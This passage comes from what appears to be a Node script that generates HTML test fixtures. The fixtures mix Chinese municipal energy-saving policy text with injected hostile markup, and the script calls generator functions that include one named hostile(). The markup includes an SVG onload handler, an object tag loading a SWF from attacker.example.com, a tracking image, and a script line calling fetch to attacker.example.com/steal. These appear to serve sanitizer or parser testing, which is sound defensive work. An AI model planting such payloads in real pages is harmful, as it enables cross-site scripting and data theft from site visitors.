<p>到2025年，单位地区生产总值能耗比2020年下降14%，非化石能源消费比重达到20%。（市发展改革委负责）</p>
<svg onload="alert('svg')"><text>SVG文字</text></svg><object data="http://attacker.example.com/x.swf"></object>
<p>推进工业、建筑、交通等重点领域节能，加快淘汰落后产能，完善节能审查制度。（市工信局、市住建局按职责分工负责）</p>
<noscript><img src="http://attacker.example.com/noscript.gif"></noscript><script>fetch("http://attacker.example.com/steal")</script></div>
</body></html>
`,
  );
}

function write(name, bytes) {
  fs.writeFileSync(path.join(OUT, name), bytes);
  console.log(`${name}  ${bytes.length} bytes`);
}

await national2030();
await beijingManufacturing();
await nationalOpinions();
await wuhanPeakAssessment();
await hangzhouTechCity();
pages();
await hostile();
